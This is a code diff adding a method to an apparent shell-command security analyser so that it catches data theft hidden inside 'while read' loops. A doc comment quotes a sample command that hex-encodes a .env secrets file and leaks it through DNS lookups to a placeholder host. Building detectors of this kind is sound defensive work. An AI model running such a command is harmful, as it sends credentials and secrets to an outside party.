@@ -505,6 +505,29 @@ class Analysis implements CarryContext {
       return cmd ? (peel(commandWords(cmd, this.vars)).argv?.name ?? null) : null;
     });
     if (pipelineShellOverNetwork(names)) this.add('reverse-shell', node.text.slice(0, 80));
+    this.readLoops(pipelineLeaves(node));
+  }
+
+  /**
+   * `cat .env | xxd -p | while read l; do nslookup $l.x.example; done`: the body acts on every line the pipeline
+   * before it prints, so it is judged once more with the loop variable replaced by that output (`$(cat .env | xxd -p)`).
+   */
+  private readLoops(leaves: SyntaxNode[]): void {
+    leaves.forEach((el, i) => {
+      if (i === 0 || el.type !== 'while_statement') return;
+      const m = /^\s*read\s+(?:-\w+\s+)*([A-Za-z_]\w*)\s*;?\s*$/.exec(el.childForFieldName('condition')?.text ?? '');
+      const body = el.childForFieldName('body');
+      if (!m || !body) return;
+      const before = leaves
+        .slice(0, i)
+        .map((l) => l.text)
+        .join(' | ');
+      const inner = named(body)
+        .map((c) => c.text)
+        .join('\n');
+      const uses = new RegExp(`\\$(\\{${m[1]!}\\}|${m[1]!}\\b)`, 'g');
+      if (uses.test(inner)) this.script(inner.replace(uses, () => `$(${before})`));
+    });
   }
 }
 
